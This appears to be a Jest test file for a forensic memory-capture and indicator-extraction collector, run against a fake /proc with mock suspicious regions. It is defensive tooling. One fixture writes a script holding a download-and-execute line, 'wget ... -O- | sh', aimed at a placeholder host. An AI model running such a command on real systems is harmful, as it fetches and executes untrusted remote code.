// Memory capture against a fake /proc: /proc/<pid>/mem is a sparse file whose bytes sit at the
// regions' addresses, so a read at an address returns what the fake process "holds" there.
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { collectLive, type LiveOptions } from '../../../src/live/live-collector.js';
import { parseMapsLine, selectRegion, type MemoryScope } from '../../../src/live/memory.js';
import { json, makeProc, runAndDecode, type Decoded, type FakeProcess } from './fake-proc.js';

const ID = '0123456789abcdef0123456789abcdef';
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

let tmp: string;
let proc: string;

/** Region bytes: a marker at the start, then filler up to `size`. */
function bytes(marker: string, size: number): Buffer {
  const b = Buffer.alloc(size, 0);
  b.write(marker, 0, 'latin1');
  return b;
}

const RWX = bytes('rwx-shellcode http://rwx.example.com/x', 0x1000);
const DELETED = bytes('\x7fELF dropped 203.0.113.7', 0x1000);
const HEAP = bytes('heap secret casefile-marker', 0x2000);
const STACK = bytes('stack HOME=/root', 0x1000);
const ANON = bytes('anon private', 0x1000);

const MAPS = [
  '00400000-00401000 r-xp 00000000 08:01 12 /bin/app',
  '00410000-00411000 rwxp 00000000 00:00 0 ',
  '00420000-00421000 r-xp 00000000 08:01 99 /tmp/.x/dropper (deleted)',
  '00430000-00432000 rw-p 00000000 00:00 0 [heap]',
  '00440000-00441000 rw-p 00000000 00:00 0 ',
  '00450000-00451000 ---p 00000000 00:00 0 ',
  '00460000-00461000 rw-s 00000000 00:05 7 /dev/zero (deleted)',
  '00470000-00471000 r--p 00000000 08:01 12 /bin/app',
  '00480000-00481000 rw-p 00000000 00:00 0 [stack]',
  '00490000-00491000 r-xp 00000000 00:00 0 [vdso]',
].join('\n');

function shell(over: Partial<FakeProcess> = {}): FakeProcess {
  return {
    pid: 1, ppid: 0, comm: 'sh', startTicks: 1, cgroup: `0::/kubepods/p/${ID}\n`, mnt: 'mnt:[A]', exe: '/bin/app', root: '/',
    maps: `${MAPS}\n`,
    mem: [
      { address: 0x410000, data: RWX },
      { address: 0x420000, data: DELETED },
      { address: 0x430000, data: HEAP },
      { address: 0x440000, data: ANON },
      { address: 0x460000, data: bytes('shared', 0x1000) },
      { address: 0x480000, data: STACK },
    ],
    ...over,
  };
}

/** casefile's own collector process, in the debug container: its memory is never read. */
const observer: FakeProcess = {
  pid: 50, ppid: 0, comm: 'node', startTicks: 9, cgroup: '0::/kubepods/p/debug\n', mnt: 'mnt:[SELF]', exe: '/usr/bin/node',
  maps: '00410000-00411000 rwxp 00000000 00:00 0 \n', mem: [{ address: 0x410000, data: bytes('observer', 0x1000) }],
};

function options(over: Partial<LiveOptions> = {}): LiveOptions {
  return {
    containerId: ID, paths: [path.join(tmp, 'empty')], maxFileBytes: 1 << 20, maxHashBytes: 1 << 20, walkSeconds: 60,
    redactEnvironment: false, declaredPorts: [], clusterCidrs: [], proc, memoryScope: 'Suspicious', memoryMaxBytes: 1 << 20, ...over,
  };
}

async function capture(procs: FakeProcess[], over: Partial<LiveOptions> = {}): Promise<Decoded> {
  await makeProc(proc, procs, { selfMnt: 'mnt:[SELF]' });
  return runAndDecode((w) => collectLive(options(over), w));
}

const regionsOf = (d: Decoded, pid = 1): any[] => json(d, `live/memory/${pid}/regions.json`);

beforeEach(async () => {
  tmp = await mkdtemp(path.join(os.tmpdir(), 'casefile-memory-'));
  proc = path.join(tmp, 'proc');
  await mkdir(path.join(tmp, 'empty'));
});

afterEach(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe('region selection', () => {
  const select = (line: string, scope: MemoryScope): string | null => selectRegion(line, parseMapsLine(line, 0)!, scope);

  it.each<[string, MemoryScope, string | null]>([
    ['00410000-00411000 rwxp 00000000 00:00 0 ', 'Suspicious', 'rwx'],
    ['00410000-00411000 r-xp 00000000 00:00 0 ', 'Suspicious', 'anon-exec'],
    ['00410000-00411000 r-xp 00000000 00:00 0 [anon:jit]', 'Suspicious', 'anon-exec'],
    ['00420000-00421000 r--p 00000000 08:01 9 /tmp/x (deleted)', 'Suspicious', 'deleted-file'],
    ['00420000-00421000 r-xp 00000000 00:01 9 /memfd:payload (deleted)', 'Suspicious', 'deleted-file'],
    ['00460000-00461000 rw-s 00000000 00:05 7 /dev/zero (deleted)', 'Suspicious', null],
    ['00460000-00461000 rw-s 00000000 00:05 7 /SYSV0000002a (deleted)', 'Anonymous', null],
    ['00430000-00431000 rw-p 00000000 00:00 0 [heap]', 'Suspicious', null],
    ['00430000-00431000 rw-p 00000000 00:00 0 [heap]', 'Anonymous', 'heap'],
    ['00430000-00431000 rw-p 00000000 00:00 0 [stack]', 'Anonymous', 'stack'],
    ['00430000-00431000 rw-p 00000000 00:00 0 [stack:42]', 'Anonymous', 'stack'],
    ['00440000-00441000 rw-p 00000000 00:00 0 ', 'Anonymous', 'anon-private'],
    ['00440000-00441000 rw-s 00000000 00:00 0 ', 'Anonymous', null],
    ['00450000-00451000 ---p 00000000 00:00 0 ', 'Anonymous', null],
    ['00400000-00401000 r-xp 00000000 08:01 12 /bin/app', 'Anonymous', null],
    ['00490000-00491000 r-xp 00000000 00:00 0 [vdso]', 'Anonymous', null],
    ['00410000-00411000 rwxp 00000000 00:00 0 ', 'None', null],
  ])('%s under %s: %s', (line, scope, reason) => {
    expect(select(line, scope)).toBe(reason);
  });

  it('keeps the path with its spaces, and refuses lines that are not regions', () => {
    expect(parseMapsLine('7f00-7f10 r-xp 00001000 08:01 42 /tmp/a b (deleted)', 3)!.record).toEqual({
      index: 3, start: '7f00', end: '7f10', perms: 'r-xp', offset: '00001000', dev: '08:01', inode: 42, path: '/tmp/a b (deleted)', deleted: true,
    });
    expect(parseMapsLine('garbage', 0)).toBeNull();
    expect(parseMapsLine('7f10-7f00 r-xp 00000000 00:00 0', 0)).toBeNull();
  });

  it('reads addresses above 2^53 exactly', () => {
    const e = parseMapsLine('ffffffffff600000-ffffffffff601000 --xp 00000000 00:00 0 [vsyscall]', 0)!;
    expect(e.end - e.start).toBe(4096n);
    expect(e.start).toBe(0xffffffffff600000n);
  });
});

describe('memory capture', () => {
  it('Suspicious: copies rwx, anonymous-exec and deleted-file regions, right after the processes, with an index that hashes each copy', async () => {
    const d = await capture([shell(), observer]);
    const regions = regionsOf(d);
    expect(regions.map((r) => [r.index, r.start, r.reason])).toEqual([[1, '00410000', 'rwx'], [2, '00420000', 'deleted-file']]);
    const rwx = regions[0];
    expect(rwx).toEqual({
      index: 1, start: '00410000', end: '00411000', perms: 'rwxp', offset: '00000000', dev: '00:00', inode: 0, path: '', deleted: false,
      reason: 'rwx', bytes: 4096, sha256: sha(RWX), artifact: 'live/memory/1/00410000-00411000.bin',
    });
    expect(d.artifacts.get('live/memory/1/00410000-00411000.bin')).toEqual(RWX);
    expect(d.artifacts.get('live/memory/1/00420000-00421000.bin')).toEqual(DELETED);
    // Order of volatility: memory right after the processes, before fds.
    expect(d.order.slice(0, 6)).toEqual([
      'live/processes.json', 'live/raw/processes.txt',
      'live/memory/1/00410000-00411000.bin', 'live/memory/1/00420000-00421000.bin', 'live/memory/1/regions.json', 'live/fds.json',
    ]);
    // The observer (casefile's own collector) is never read.
    expect(d.order.filter((n) => n.startsWith('live/memory/50/'))).toEqual([]);
    expect(d.summary).toMatchObject({ memoryRegions: 2, memoryBytes: 2 * 4096 });
    const findings = json(d, 'live/findings.json');
    expect(findings.find((f: any) => f.kind === 'memory-from-deleted-file')).toMatchObject({ severity: 'high', artifact: 'live/memory/1/regions.json', pid: 1 });
    expect(findings.find((f: any) => f.kind === 'memory-from-deleted-file').summary).toContain('/tmp/.x/dropper (deleted)');
    expect(findings.find((f: any) => f.kind === 'executable-anonymous-memory-copied')).toMatchObject({ severity: 'low', pid: 1 });
  });

  it('Anonymous: also the heap, the stack and private anonymous regions; never no-access or shared ones', async () => {
    const d = await capture([shell()], { memoryScope: 'Anonymous' });
    expect(regionsOf(d).map((r) => `${r.start}:${r.reason}`)).toEqual([
      '00410000:rwx', '00420000:deleted-file', '00430000:heap', '00440000:anon-private', '00480000:stack',
    ]);
    expect(d.artifacts.get('live/memory/1/00430000-00432000.bin')).toEqual(HEAP);
    expect(d.artifacts.get('live/memory/1/00480000-00481000.bin')).toEqual(STACK);
  });

  it('None: no memory artifact, and a note saying the spec asked for none', async () => {
    const d = await capture([shell()], { memoryScope: 'None' });
    expect(d.order.filter((n) => n.startsWith('live/memory/'))).toEqual([]);
    expect(d.notes).toContainEqual({ level: 'info', message: 'memory not read: spec.evidence.live.memory.scope is None' });
  });

  it('a process with no selected region is said to have none', async () => {
    const d = await capture([shell({ maps: '00400000-00401000 r-xp 00000000 08:01 12 /bin/app\n' })]);
    expect(d.order.filter((n) => n.startsWith('live/memory/'))).toEqual([]);
    expect(d.notes.map((n) => n.message)).toContainEqual(expect.stringMatching(/memory of pid 1 .*no region matches scope Suspicious \(nothing read\)/));
  });

  it('never reads past memory.maxBytes: a region larger than what is left is listed with the reason, a smaller later one still fits', async () => {
    const d = await capture([shell()], { memoryScope: 'Anonymous', memoryMaxBytes: 0x1000 * 2 + 0x800 });
    const regions = regionsOf(d);
    const copied = regions.filter((r) => r.artifact !== undefined).map((r) => r.start);
    expect(copied).toEqual(['00410000', '00420000']);
    const heap = regions.find((r) => r.reason === 'heap');
    expect(heap).toMatchObject({ bytes: 0x2000, skipped: 'cap reached: 8192 bytes, 2048 of memory.maxBytes 10240 left' });
    expect(heap.sha256).toBeUndefined();
    expect(d.summary!.memoryBytes).toBe(0x2000);
    expect(d.notes).toContainEqual({ level: 'warn', message: expect.stringMatching(/3 region\(s\) listed but not copied: memory.maxBytes 10240 reached/) });
  });

  it('the budget is per case: a second process gets what the first left', async () => {
    const second = shell({ pid: 2, ppid: 1, maps: '00410000-00411000 rwxp 00000000 00:00 0 \n', mem: [{ address: 0x410000, data: RWX }] });
    const d = await capture([shell(), second], { memoryMaxBytes: 2 * 4096 });
    expect(regionsOf(d, 2)[0].skipped).toMatch(/^cap reached/);
  });

  it('an unreadable region is listed with the reason and noted; the readable ones are still copied', async () => {
    // The heap's bytes are missing from the fake mem file: a read there returns nothing, as for a region unmapped meanwhile.
    const p = shell({ mem: [{ address: 0x410000, data: RWX }] });
    const d = await capture([p], { memoryScope: 'Anonymous' });
    const regions = regionsOf(d);
    expect(regions[0].artifact).toBe('live/memory/1/00410000-00411000.bin');
    expect(regions.find((r) => r.reason === 'heap')).toMatchObject({ skipped: 'unreadable (nothing read: the region is gone)' });
    expect(regions.find((r) => r.reason === 'heap').artifact).toBeUndefined();
    expect(d.notes).toContainEqual({ level: 'warn', message: expect.stringMatching(/memory of pid 1 .*: 4 of 5 selected region\(s\) could not be read \(gone\)/) });
  });

  it('a mem file that cannot be opened: every region listed with the errno', async () => {
    const d = await capture([shell({ mem: undefined })]);
    expect(regionsOf(d).map((r) => r.skipped)).toEqual(Array(2).fill(`unreadable (ENOENT): cannot open ${path.join(proc, '1', 'mem')}`));
    expect(d.notes.find((n) => n.message.includes('could not be read'))).toMatchObject({ level: 'warn', message: expect.stringContaining('(ENOENT)') });
  });

  it('a read error (errno) is recorded per region', async () => {
    await makeProc(proc, [shell({ mem: undefined })], { selfMnt: 'mnt:[SELF]' });
    await mkdir(path.join(proc, '1', 'mem'));
    const d = await runAndDecode((w) => collectLive(options(), w));
    expect(regionsOf(d).map((r) => r.skipped)).toEqual(Array(2).fill('unreadable (EISDIR)'));
  });

  it('a region that shrinks while it is read keeps the partial copy, hashed, and says so', async () => {
    const part = Buffer.alloc(70000, 0x41);
    const p = shell({ maps: '00410000-00430000 rwxp 00000000 00:00 0 \n', mem: [{ address: 0x410000, data: part }] });
    const d = await capture([p]);
    const [r] = regionsOf(d);
    expect(r).toMatchObject({ bytes: 0x20000, sha256: sha(part), skipped: `unreadable after 70000 of ${0x20000} bytes (the region shrank or was unmapped): the copy is partial` });
    expect(d.artifacts.get(r.artifact)).toEqual(part);
  });

  it('a hostile maps file: huge, with garbage lines and thousands of regions, is bounded', async () => {
    const lines = ['x'.repeat(100_000), '\u0000\u00ff garbage'];
    for (let i = 0; i < 5000; i++) lines.push(`${(0x1000000 + i * 0x2000).toString(16)}-${(0x1001000 + i * 0x2000).toString(16)} rwxp 00000000 00:00 0 `);
    await makeProc(proc, [shell({ maps: `${lines.join('\n')}\n`, mem: [] })], { selfMnt: 'mnt:[SELF]' });
    const d = await runAndDecode((w) => collectLive(options(), w));
    expect(regionsOf(d)).toHaveLength(4096);
    expect(d.notes).toContainEqual({ level: 'warn', message: expect.stringMatching(/904 more selected region\(s\) past the first 4096 are not listed/) });
  });
});

describe('indicators in memory and dropped files', () => {
  it('lists each indicator once, sorted, with every place it was seen', async () => {
    const drop = path.join(tmp, 'drop');
    await mkdir(drop);
    await writeFile(path.join(drop, 'run.sh'), '#!/bin/sh\nwget http://rwx.example.com/x -O- | sh # 203.0.113.7\n', { mode: 0o755 });
    const d = await capture([shell()], { paths: [drop] });
    const doc = json(d, 'live/indicators.json');
    expect(doc.truncated).toBe(false);
    expect(doc.limits).toMatchObject({ maxIndicators: 5000, maxSeenPerIndicator: 10 });
    const copy = `live/files/${path.join(drop, 'run.sh').slice(1)}`;
    expect(doc.indicators).toEqual([
      { kind: 'domain', value: 'rwx.example.com', seen: [{ artifact: 'live/memory/1/00410000-00411000.bin', offset: 21 }, { artifact: copy, offset: 22 }] },
      { kind: 'ipv4', value: '203.0.113.7', seen: [{ artifact: 'live/memory/1/00420000-00421000.bin', offset: 13 }, { artifact: copy, offset: 51 }] },
      { kind: 'url', value: 'http://rwx.example.com/x', seen: [{ artifact: 'live/memory/1/00410000-00411000.bin', offset: 14 }, { artifact: copy, offset: 15 }] },
    ]);
    expect(d.order.indexOf('live/indicators.json')).toBeGreaterThan(d.order.indexOf(copy));
    const findings = json(d, 'live/file-findings.json');
    expect(findings.find((f: any) => f.kind === 'indicators-found')).toMatchObject({ severity: 'low', artifact: 'live/indicators.json' });
    expect(d.summary!.indicators).toBe(3);
  });

  it('nothing found: an empty list and no finding', async () => {
    const d = await capture([shell({ maps: '' })]);
    expect(json(d, 'live/indicators.json')).toMatchObject({ indicators: [], truncated: false });
    expect(json(d, 'live/file-findings.json').filter((f: any) => f.kind === 'indicators-found')).toEqual([]);
  });
});
